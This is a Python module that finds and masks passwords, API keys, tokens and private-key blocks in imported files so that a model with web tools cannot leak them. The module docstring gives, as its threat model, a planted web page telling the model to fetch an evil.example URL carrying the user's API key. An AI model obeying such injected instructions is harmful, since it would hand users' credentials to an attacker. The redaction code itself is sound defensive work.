"""Passwords, tokens and keys in imported files, stored as "***".

Passages are given to the model, which may call web tools: a page that tells it to fetch
``https://evil.example/?k=<your API key>`` must find no key to send. So the values of keys named like a
secret (``password``, ``db_passwd``, ``AWS_SECRET_ACCESS_KEY``, ``apiKey``, ``client_secret``, ``token``,
``credentials``, ``DB_PASS``, ``signing_key``) are hidden where they are assigned, in the forms of INI, TOML,
YAML, env files, JSON, XML (as its reader writes it), Python (``api_key: str = …``, ``os.environ["KEY"] = …``),
JavaScript, Go, shell, Makefiles (``KEY ?= value``, ``+=``), batch files (``set "KEY=value" & …``) and
Dockerfiles (``ENV KEY value``); so are a command's ``--password=…``, ``curl -u user:…``, ``PGPASSWORD=… psql``
and ``mysql -p…``, an HTTP header's credentials (``Bearer …``), a password given to a call (``auth=('ann',
'…')``, ``setPassword("…")``, PHP's ``define('DB_PASSWORD', '…')``, PowerShell's ``ConvertTo-SecureString "…"
-AsPlainText``), the keys of well-known services anywhere (``ghp_…``, ``AKIA…``, ``hf_…``), the password of an
address (``postgres://app:hunter2@db``, with hidden_passwords; ``jdbc:…?password=…`` and a connection string's
``Password=…;``, ODBC's braced ``PWD={…}``, Azure's ``AccountKey=…``) and the body of a PEM private key block.

Conservative, as a passage's words are what the search finds: only assignments, never prose ("the password
must be 8 characters"); an unquoted value only where a file's syntax has them (configuration files, shell,
Makefiles, Dockerfiles, JSON as its reader writes it) and only as one word to the end of its line ("password:
the one on the card" is prose too); no reference to a secret kept elsewhere (``$DB_PASSWORD``,
``${TOKEN}``, ``{{ vault_token }}``, ``<your key>``, ``os.environ["TOKEN"]``); no value of three characters
or less, nor true/false/null, nor a label, a template or a default (_is_secret). Programs, configuration
files, JSON and XML get all of it: that is where a project keeps its keys. Documents (text, Markdown, web
pages …) get only the private key blocks, which are never prose: their examples ("password = changeme" in a
manual) are what a reader searches them for.
"""

from __future__ import annotations

import re
from dataclasses import replace

from ..hidden_passwords import MASK, hide_passwords
from .models import Document

# The kinds of source whose assignments are looked at (readers' types); the others' key blocks only. XML as its
# reader writes it ("password: s3cr3t", from Maven's <password>s3cr3t</password>), as JSON.
_ASSIGNING = frozenset({"code", "config", "json", "xml"})
# Languages (code_files) whose values may stand unquoted: "password = hunter2", PASSWORD=hunter2.
UNQUOTED = frozenset({"ini", "yaml", "sh", "make", "docker", "json", "batch", "properties", "conf"})

# A key whose name ends in a secret's word: db_password, AWS_SECRET_ACCESS_KEY, apiKey, "client-secret",
# users[0].password and 0.token (JSON as its reader writes it, the second from a file that is a list), DB_PASS
# (not first_pass), MYSQL_PWD, PW and ADMIN_PW (not PWD, the shell's folder), secret_key_base, signing_key; a key
# of a mapping too (os.environ["API_KEY"] = …).
_SECRET_NAME = (r"(?:password|passwd|secret|secret[_.\-]?key(?:[_.\-]?base)?|token|api[_.\-]?key|access[_.\-]?key"
                r"|(?:private|signing|encryption|master)[_.\-]?key|credentials?|(?<=[_.\-])pwd|(?<![\w.])_auth"
                r"|(?<![A-Za-z0-9])pw"
                r"|(?:db|database|user|admin|root|smtp|mail|email|ldap|redis|mysql|pg|postgres|mongo|ftp|proxy|login"
                r"|app|service|account|bind)[_.\-]pass)")
# A variable's sigil goes with its name: PHP's and Perl's $password. A key starts a word, or follows a bracket that
# does (a quoted one, or a variable, any: $cfg['password'], a[$password]): config[password] is read from "config",
# and a long word of brackets (a[a[a[…, a]a]a]…) is not read again from each of them.
_KEY = (r"(?<![\w$\-.])(?:(?<![\w\-.\[\]][\[\]])|(?=[\"'$]))(?P<kq>[\"']?)"
        r"(?P<key>\$?(?:\d+\.)?(?:[A-Za-z_][\w.\-\[\]]*?)?" + _SECRET_NAME + r")"
        r"(?P=kq)\]?")
# "=", ":" (YAML, JSON), "=>", ":=", R's "<-", a Makefile's "?=" and "+=", and a declared type before "=":
# api_key: str = "…", apiKey: string = "…".
_SEP = r"[ \t]*(?:=>|:=|[?+]=|<-|(?::[ \t]*[A-Za-z_][\w.\[\], |]*?[ \t]*)?=(?!=)|:(?![:=]))[ \t]*"
_QUOTED = r"[rRbBuU@$]{0,2}(?P<q>[\"'`])(?P<qv>(?:\\.|(?!(?P=q))[^\\\n])*)(?P=q)"
# One word to the end of the line, or to a comment: "hunter2", "hunter2  # production"; the brackets that close
# a YAML or TOML mapping it ends are not its own ("{user: ann, password: hunter2}"), nor the quote that closes
# what a quote before the key opened (a batch file's set "DB_PASSWORD=hunter2"), nor the commands chained after
# it (set "PW=hunter2" & echo done, set PASSWORD=hunter2 && call run.bat: "&" after a space or that quote, as a
# password's own "&" is not: PASSWORD=ab&cd12 would be "ab", too short to hide, and shown whole).
# A value of more than 256 characters (a JWT, a key in base64) is read only to where another key is given one in
# it (a secret's word, a separator): a long word of assignments (password=password=…=password= x) is then read once,
# not again from each of its keys. A long run of closing brackets is not read again from each place either.
_BARE_END = r"(?=[\"']?[,}\]]{0,16}+[ \t]*$|[ \t]+[#;]|(?:[\"'][ \t]*|[ \t]+)&)"
_NOT_A_KEY = (r"(?!(?:pass(?:word|wd)|(?<=[_.\-])pass|secret|key|base|token|credentials?|(?<=[_.\-])pwd"
              r"|(?<![A-Za-z0-9])pw|_auth)[\"'\]]{0,2}[=:<?+])")
_BARE = (r"(?:(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,][^\s]{0,255}?)" + _BARE_END
         + rf"|(?P<bl>{_NOT_A_KEY}[^\s\"'`{{}}\[\]()|>&$<*#;,](?:{_NOT_A_KEY}[^\s]){{256,}}?)" + _BARE_END + ")")
# A word given on a command line: --password=hunter2, --db-pass=hunter2 (with a space between, it is prose's
# "--password option" as often).
_OPTION_VALUE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,\-][^\s\"'`;|&)]*)"
# A quoted string, of which another is the secret: the user's name before a password ('ann', 's3cr3t').
_ANY_QUOTED = r"[rRbBuU@$]{0,2}(?:\"(?:\\.|[^\"\\\n])*\"|'(?:\\.|[^'\\\n])*')"
# A connection string ("Server=db;User ID=ann;Password=hunter2;", ODBC's "Driver={ODBC Driver 18};Server=db;
# UID=ann;PWD={p;a}}ss};", Azure's "AccountName=app;AccountKey=…==;") is told from compact code ("a=b;token=c.next;",
# "x=1;key=k.y", "var q=x;secret=yy.value;") by a key only a connection string has, before its secret or after it,
# among its Key=value; pairs: one it is known by (Server, Host, Data Source, Database, User ID, Uid, Driver …), or
# one of several capitalised words (Persist Security Info, Trust Server Certificate), which is no variable's name
# ("int i=0;" is not one). A value is braced, its own ";" and "}}" inside (ODBC), or plain, spaces in it
# ("Application Name=My App") and "=" at its end (base64's "abc=="), but no brackets (a call's "getpwuid(uid)", an
# index's "argv[2]", C's "p->next"). A key of its own after the secret is written capitalised (Server=, Host=):
# "pwd=strdup(p);host=strdup(h);" is C. The braced values, the words of a key, the
# pairs looked through and a secret's length are bounded: each place a key starts is read a bounded way on, so
# a long line (minified code) is read in a time its length's, not its square's.
_BRACED = r"\{(?:[^}\n]|\}\}){0,256}+\}"
_CS_VALUE = rf"(?:{_BRACED}|[^;&\"'`\n{{}}()\[\]<>=]*=*)"
_CS_PAIRS = r"(?:[\w \t]+=" + _CS_VALUE + r";){0,16}"
_CS_OWN_KEY = (r"(?:\b(?:server|host|data[ \t]source|database|initial[ \t]catalog|user[ \t]?id|uid|user[ \t]?name|dsn"
               r"|driver|provider|address|endpoint|account[ \t]?name)[ \t]*"
               r"|(?:(?<=[;\"'`:=\s])|^)(?-i:[A-Z]\w*(?:[ \t][A-Z]\w*){1,3}))=")
# its secret, the braces of one included: PWD=***; the whole of the value given is hidden
_CS_SECRET = (r"(?P<key>(?:[\w.\-]*?[_.\-])?(?:password|passwd|pwd|secret|token|api[_\-]?key)"
              r"|(?:account|(?:shared[_\-]?)?access)[_\-]?key)"
              rf"=(?P<bv>{_BRACED}|[^\s;\"'`<>(){{}}\[\]]{{1,256}}+(?![>(){{}}\[\]]))")
_PATTERNS = {bare: tuple(re.compile(pattern, re.I | re.M) for pattern in (
    # a parameter of an address, before the assignment that would take the rest of the line as its value:
    # jdbc:postgresql://db/app?user=ann&password=hunter2 (&amp; in XML)
    r"(?:(?<=[?&])|(?<=&amp;))(?P<key>(?:[\w.\-]*?[_.\-])?(?:password|passwd|pwd|secret|token|api[_\-]?key))"
    r"=(?P<bv>[^\s&;\"'`#<>()\[\]{}]+)",
    # a connection string's secret after a key of its own, or before one (not a program's "; password = x")
    rf"{_CS_OWN_KEY}{_CS_VALUE};{_CS_PAIRS}[ \t]?{_CS_SECRET}",
    rf"(?<![\w.\-$]){_CS_SECRET}(?=;{_CS_PAIRS}[ \t]*(?-i:(?=[A-Z])){_CS_OWN_KEY})",
    f"{_KEY}{_SEP}(?:{_QUOTED}{'|' + _BARE if bare else ''})",
    # a command's option, in a script, a Dockerfile's RUN or a program's list of arguments
    r"(?<![\w\-])--(?P<key>(?:[\w\-]*?[\-_])?(?:password|passwd|pass|secret|token|api-key))=" + _OPTION_VALUE,
    # curl -u ann:hunter2, curl --user ann:hunter2
    r"\bcurl\b(?:(?!\bcurl\b)[^\n])*?[ \t](?:-u|--user)[ \t]*(?P<kq>[\"']?)(?P<key>[^\s:\"'$]+):(?P<bv>[^\s\"'$@]+)",
    # a database client's: PGPASSWORD=hunter2 psql …, mysql -phunter2; the value read to another such name at the
    # most (PGPASSWORD=PGPASSWORD=… is read once, not from each)
    r"(?<![\w$])(?P<key>(?-i:[A-Z][A-Z0-9_]*(?:PASSWORD|PASSWD|PWD|TOKEN|SECRET)))"
    r"=(?P<bv>(?:(?!(?-i:PASSWORD|PASSWD|PWD|TOKEN|SECRET)=)[^\s\"'`$;|&])++)(?=[ \t]+\w)",
    r"\bmysql(?:dump|admin)?\b(?:(?!\bmysql(?:dump|admin)?\b)[^\n])*?[ \t](?P<key>(?-i:-p))(?P<bv>[^\s\"'`$;|&]+)",
    # an HTTP header's credentials: Authorization: "Bearer …", "Authorization": "Basic …"
    r"\b(?P<key>Bearer|Basic)[ \t]+(?P<bv>(?=[\w\-.~+/]*\d)[A-Za-z][\w\-.~+/]{7,}=*)",
    # a user's name and password: requests' auth=('ann', 's3cr3t'), session.auth = ("ann", "…"), "auth": [...],
    # HTTPBasicAuth('ann', '…'), aiohttp's and httpx's BasicAuth("ann", "…")
    r"(?<![\w$.])(?P<key>(?:[A-Za-z_][\w.]*?)?auth)(?:(?<![a-z0-9]auth)[\"']?[ \t]*[=:][ \t]*[(\[]"
    rf"|(?:(?<=basicauth)|(?<=digestauth)|(?<=proxyauth))\()[ \t]*{_ANY_QUOTED}[ \t]*,[ \t]*{_QUOTED}[ \t]*[)\]]",
    # a setter: setPassword("…"), set_password('…'), withPassword("…"), a builder's .password("…"), and the last
    # of its arguments: keyring.set_password("app", "ann", "…")
    r"(?:\b(?:set|with)_?(?=[A-Za-z_]*?(?:password|passwd|secret|token|api_?key|access_?key|credentials?)\()"
    r"|\.(?=(?:password|passwd|secret|client_?secret|api_?key|(?:access|auth|api)_?token)\())(?P<key>\w+)"
    rf"\([ \t]*(?:{_ANY_QUOTED}[ \t]*,[ \t]*)*{_QUOTED}[ \t]*\)",
    # PHP: define('DB_PASSWORD', '…'), WordPress's keys and salts: define('AUTH_KEY', '…')
    r"\bdefine\([ \t]*(?P<kq>[\"'])(?P<key>\w*?" + _SECRET_NAME + r"|(?:secure_)?auth_(?:key|salt)"
    r"|(?:logged_in|nonce)_(?:key|salt))(?P=kq)[ \t]*,[ \t]*" + _QUOTED,
    # Dockerfile: ENV DB_PASSWORD hunter2 (ENV's older form: the key, a space, the value)
    *([rf"^[ \t]*ENV[ \t]+{_KEY}[ \t]+(?:{_QUOTED}|{_BARE})"] if bare else []),
)) for bare in (False, True)}
# Forms of one language: (the lines that may hold one, in lower case; the patterns). A configuration file's key, a
# space and its value (redis.conf's "requirepass hunter2", "db.password hunter2" in a .properties file), but no
# address or path (nginx's "proxy_pass http://app;"); SQL's CREATE USER … PASSWORD '…' and IDENTIFIED BY '…'.
_SPACED = (re.compile(r"^[ \t]*[\w.\-]*(?:pass|secret|token|key|auth|pw|credential)[\w.\-]*[ \t]", re.I | re.M),
           (re.compile(r"^[ \t]*(?P<key>(?:[\w.\-]*?[_.\-])?(?:" + _SECRET_NAME + r"|requirepass|masterauth))"
                       rf"[ \t]+(?:{_QUOTED}|(?![\w+.\-]*://)(?P<bv>[^\s\"'`;#=:{{}}/][^\s\"'`;#]*)"
                       r"(?=[ \t]*;?[ \t]*(?:[#;].*)?$))",
                       re.I | re.M),))
_LANGUAGE_FORMS = {
    "conf": _SPACED, "properties": _SPACED,
    # .NET's <add key="SmtpPassword" value="…" />
    "xml": (re.compile(r"key[ \t]*=[ \t]*[\"'][^\"'\n]*(?:pass|secret|token|key|pw|credential|auth)", re.I),
            (re.compile(r"\bkey[ \t]*=[ \t]*(?P<kq>[\"'])(?P<key>[^\"'\n]*?" + _SECRET_NAME + r")(?P=kq)"
                        r"[ \t]+value[ \t]*=[ \t]*" + _QUOTED, re.I),)),
    "sql": (re.compile(r"password[ \t]|identified[ \t]", re.I),
            (re.compile(r"\b(?P<key>password|identified[ \t]+by(?:[ \t]+password)?)[ \t]+[nN]?" + _QUOTED, re.I),)),
    # Visual Basic's Const Password As String = "…"; Clojure's (def password "…"); Elixir's @password "…"
    "vb": (re.compile(r"(?:pass|secret|token|key|pw|credential|auth)\w*[ \t]+as[ \t]", re.I),
           (re.compile(rf"{_KEY}[ \t]+as[ \t]+[A-Za-z_][\w.]*[ \t]*=[ \t]*{_QUOTED}", re.I),)),
    "clojure": (re.compile(r"\(def", re.I), (re.compile(rf"\((?:def|defonce)[ \t]+{_KEY}[ \t]+{_QUOTED}", re.I),)),
    "elixir": (re.compile(r"@[\w]*(?:pass|secret|token|key|pw|credential|auth)", re.I),
               (re.compile(rf"@{_KEY}[ \t]+{_QUOTED}", re.I),)),
    # a batch file's set PW=hunter2&echo done: cmd ends a command at "&", a password's own is written "^&"
    "batch": (re.compile(r"\bset[ \t]", re.I),
              (re.compile(rf"\bset[ \t]+{_KEY}=(?P<bv>(?:\^.|[^\s&^\"'|<>])++)(?=&)", re.I),)),
    # PowerShell's ConvertTo-SecureString "…" -AsPlainText
    "ps": (re.compile(r"convertto-securestring", re.I),
           (re.compile(r"\b(?P<key>ConvertTo-SecureString)[ \t]+(?:-String[ \t]+)?" + _QUOTED
                       + r"[ \t]+(?:(?!\bconvertto-securestring)[^\n])*?-AsPlainText\b", re.I),)),
}
# A value that is no secret but where one is: a reference, a placeholder ("your-api-key", "password_here", as
# WordPress's wp-config-sample.php has it), a switch, a template ("{0}:{1}", "%s"), a default, a length in CSS's
# units (a style's "pw: 100px", "pw" being a password's name too).
_NOT_A_VALUE = re.compile(r"(?:[$%]|\{\{|<|\*+$|x+$|your[_\-][\w\-]*$|[\w\-]*[_\-]here$|(?:true|false|yes|no|on|off"
                          r"|null|none|nil|undefined|default|example|placeholder|changeme|required|optional|include"
                          r"|omit|same-origin)$|(?:\d+(?:\.\d*)?|\.\d+)(?:px|r?em|%|pt|pc|vh|vw|vmin|vmax|ch|ex|cm|mm"
                          r"|fr|deg)$)", re.I)
# A constant's name (next_token = 'SEMICOLON'), not a secret: capitals and underscores, no digit.
_CONSTANT = re.compile(r"[A-Z]+(?:_[A-Z]+)*")
_TEMPLATE = re.compile(r"\{[\w.]*(?:![rsa])?(?::[^{}]*)?\}|%[-+ 0#]*\d*(?:\.\d+)?[sdrf]|%\(\w+\)[sdrf]")
# A label or a translation where a secret's word is the key: "API key", "Mot de passe", "Jeton" (words of
# letters only, with a space between or the first capital), shown to a person, never typed as a password.
_LABEL = re.compile(r"(?:[^\W\d_]+[ '’\-])+[^\W\d_]+[ ?!:.…]*|[^\W\d_a-z][^\W\d_A-Z]+[ ?!:.…]*")
# Keys made by well-known services, whatever they are assigned to: GitHub, GitLab, OpenAI, Anthropic, Stripe,
# AWS, Slack, Google; Hugging Face's, npm's and SendGrid's in the length and letters they are made with, PyPI's
# from its "AgE". With a digit in them, or both capitals and small letters ("glpat-tFrjFXD7soVU2fqxuDMh"):
# "npm_package_config" is a name; OpenAI's "sk-" with a digit only, as "sk-ButtonPrimary-large" is one too.
_TOKEN_PREFIXES = ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "sk_live_", "rk_live_", "sk_test_",
                   "rk_test_", "AKIA", "xoxb-", "xoxp-", "xoxa-", "xoxr-", "xoxs-", "AIza")
_TOKENS = tuple(re.compile(r"(?<![\w\-])" + pattern) for pattern in (
    r"(?P<key>sk-)(?P<bv>(?=[\w\-]*\d)[\w\-]{16,})",
    r"(?P<key>" + "|".join(re.escape(p) for p in _TOKEN_PREFIXES) + r"|hf_(?=[A-Za-z0-9]{34}(?![\w\-]))"
    r"|npm_(?=[A-Za-z0-9]{36}(?![\w\-]))|SG\.(?=[\w\-]{22}\.[\w\-]{43}(?![\w\-]))|pypi-(?=AgE))"
    r"(?P<bv>(?![a-z_\-]+(?![\w\-]))(?![A-Z_\-]+(?![\w\-]))[\w\-]{16,}(?:\.[\w\-]{8,})*)",
))
# A line that may hold a secret: one with a secret's word where a value is given to it ("password:", "token=",
# "api_key\"]", --db-pass=, setPassword(, define('DB_PASSWORD',), or one with a word that starts another form
# (curl, Bearer, ENV, a service's key). Looked for first, in the text in lower case (ten times as fast as re.I),
# as most lines hold none. Not a secret's word alone: in a JSON file full of "key" and "pass" (monkey,
# passage), every line was looked at with every pattern, 10 s for 21 MB that take 0.5 s to read. The words before
# a separator are looked for in the text reversed, from the separator, which is rarer than their letters (a
# fifth of the time); a Makefile's "?=" and "+=" too. "?" in a word: "_", ".", "-" or nothing; "!": one of them.
_VALUE_NAMES = ("password", "passwd", "secret", "token", "credential", "credentials", "pwd", "pw", "auth", "!pass",
                "!salt", "secret?key", "secret?key?base", "api?key", "access?key", "account?key", "private?key",
                "signing?key", "encryption?key", "master?key", "auth?key", "logged_in?key", "nonce?key")
_NAMED_VALUE_REVERSED = (r"(?:[:=(,]|-<)[?+]?[ \t]*[\"'\]]{0,2}(?:" + "|".join(
    re.escape(name[::-1]).replace(r"\?", r"[_.\-]?").replace("!", r"[_.\-]") for name in _VALUE_NAMES) + ")")
# (No look-behind, nor a class of letters, at the start of one: either makes every place a start, 3 times as slow.)
_OTHER_FORMS = (r"curl|mysql|bearer[ \t]|basic[ \t]|gh[opusr]_|github_pat_|glpat-|sk[-_]|rk_|akia|aiza|xox|hf_|npm_"
                r"|pypi-|sg\.")
_SECRET_LINE = {case: (re.compile(_NAMED_VALUE_REVERSED, case), re.compile(_OTHER_FORMS, case)) for case in (0, re.I)}
_ENV_LINE = re.compile(r"^[ \t]*env[ \t]", re.I | re.M)  # a Dockerfile's ENV KEY value, where values are unquoted
_PEM = re.compile(r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----)[\s\S]*?(-----END [A-Z0-9 ]*PRIVATE KEY"
                  r"(?: BLOCK)?-----|\Z)")


def hide_secrets(text: str, assignments: bool = True, unquoted: bool = False, language: str = "") -> tuple[str, int]:
    """``text`` with its secrets as :data:`MASK`, and how many were hidden. ``assignments``: the values of keys
    named like secrets and the passwords of addresses too, not only private key blocks; ``unquoted``: values
    written without quotes count (see UNQUOTED); ``language``: a code file's, whose own forms count too
    (_LANGUAGE_FORMS)."""
    hidden = 0
    if "PRIVATE KEY" in text:
        text, hidden = _PEM.subn(_pem_hidden, text)
    if not assignments:
        return text, hidden
    if "://" in text and "@" in text:
        masked = hide_passwords(text)
        if masked != text:
            hidden += masked.count(f":{MASK}@") - text.count(f":{MASK}@")
            text = masked
    return _without_assignments(text, unquoted, hidden, _LANGUAGE_FORMS.get(language))


def _pem_hidden(match: re.Match[str]) -> str:
    """A private key block with its body as MASK, its lines kept apart as they were: by line breaks, or by
    "\\n" in a string on one line."""
    between = "\n" if "\n" in match.group(0) else "\\n" if "\\n" in match.group(0) else " "
    return f"{match.group(1)}{between}{MASK}{between}{match.group(3) or ''}".rstrip(between)


def _without_assignments(text: str, unquoted: bool, hidden: int,
                         forms: tuple[re.Pattern[str], tuple[re.Pattern[str], ...]] | None) -> tuple[str, int]:
    """``text`` with the values _PATTERNS, _TOKENS and a language's ``forms`` find hidden, and ``hidden`` plus
    their number. Only the lines that may hold a secret are looked at (_secret_lines): over all of a 23 MB JSON
    file, the patterns took 5 s."""
    # the services' keys after the assignments, which hide all of a value
    count, patterns = hidden, _PATTERNS[unquoted] + (forms[1] if forms else ()) + _TOKENS

    def masked(match: re.Match[str]) -> str:
        nonlocal count
        # the value quoted, one word (bv), or a long one (bl, _BARE)
        group = next((name for name in ("qv", "bv", "bl") if name in match.re.groupindex
                      and match.group(name) is not None), "bv")
        value = match.group(group)
        if value is None or not _is_secret(value, match.group("key")):
            return match.group(0)
        count += 1
        start, end = match.span(group)
        return match.group(0)[:start - match.start()] + MASK + match.group(0)[end - match.start():]

    def line_masked(line: str) -> str:
        for pattern in patterns:
            line = pattern.sub(masked, line)
        return line

    parts, pos = [], 0
    for start, end in _secret_lines(text, unquoted, forms[0] if forms else None):
        parts += [text[pos:start], line_masked(text[start:end])]
        pos = end
    if parts:
        text = "".join(parts) + text[pos:]
    return text, count


def _secret_lines(text: str, unquoted: bool, language_lines: re.Pattern[str] | None) -> list[tuple[int, int]]:
    """Where the lines that may hold a secret (_SECRET_LINE, or ``language_lines``) start and end in ``text``, in
    order."""
    lower = text.lower()
    # a letter whose lower case is longer ("İ") would move the places found: then the text as it is
    (named, other), haystack = (_SECRET_LINE[0], lower) if len(lower) == len(text) else (_SECRET_LINE[re.I], text)
    starts = set()
    for forms in (other, *([_ENV_LINE] if unquoted and "env" in lower else []),
                  *([language_lines] if language_lines else [])):
        pos = 0
        while found := forms.search(haystack, pos):
            starts.add(text.rfind("\n", 0, found.start()) + 1)
            pos = text.find("\n", found.end()) + 1 or len(text)
    backwards, pos = haystack[::-1], 0  # the separator found first, then the name before it
    while found := named.search(backwards, pos):
        start = text.rfind("\n", 0, len(text) - found.start()) + 1
        starts.add(start)
        pos = len(text) - start + 1
    spans = []
    for start in sorted(starts):
        end = text.find("\n", start)
        spans.append((start, len(text) if end < 0 else end))
    return spans


def _is_secret(value: str, key: str) -> bool:
    """Whether ``value``, assigned to ``key``, may be a secret: not a reference, a switch, a template, a label
    ("API key", "Jeton"), one hidden already, the key's own words again ("api_key": "api_key"), nor a sentence
    ("the token you were given"; a passphrase of four words and more is taken for one too: prose is what the
    search finds). A connection string's braced value is judged by what is inside its braces (PWD={your-password}),
    unless it is a template's ({0}, {db_password})."""
    if value[:1] == "{" and value[-1:] == "}" and not _TEMPLATE.search(value):
        value = value[1:-1]
    if len(value) <= 3 or MASK in value or value.count(" ") > 2 or _NOT_A_VALUE.match(value):
        return False
    if _TEMPLATE.search(value) or _LABEL.fullmatch(value) or _CONSTANT.fullmatch(value):
        return False
    if value.isalpha() and value.islower() and (key.lower() == "token" or value[:4] in key.lower()):
        return False  # a kind of token (token: 'punctuation'), the key's word translated (password: 'passwort')
    letters = "".join(c for c in value.lower() if c.isalnum())
    return not letters or letters not in "".join(c for c in key.lower() if c.isalnum())


def document_without_secrets(doc: Document, language: str = "") -> Document:
    """``doc`` with the secrets in its blocks hidden (see hide_secrets) and their number in ``doc.hidden``;
    ``language``: a code file's (code_files), which says whether its values may stand unquoted."""
    assignments = doc.type in _ASSIGNING
    unquoted = doc.type in ("config", "json", "xml") or language in UNQUOTED
    blocks, hidden = [], 0
    for block in doc.blocks:
        if block.kind == "heading" or (not assignments and "PRIVATE KEY" not in block.text):
            blocks.append(block)
            continue
        text, count = hide_secrets(block.text, assignments, unquoted, language)
        blocks.append(replace(block, text=text) if count else block)
        hidden += count
    return replace(doc, blocks=tuple(blocks), hidden=doc.hidden + hidden) if hidden else doc
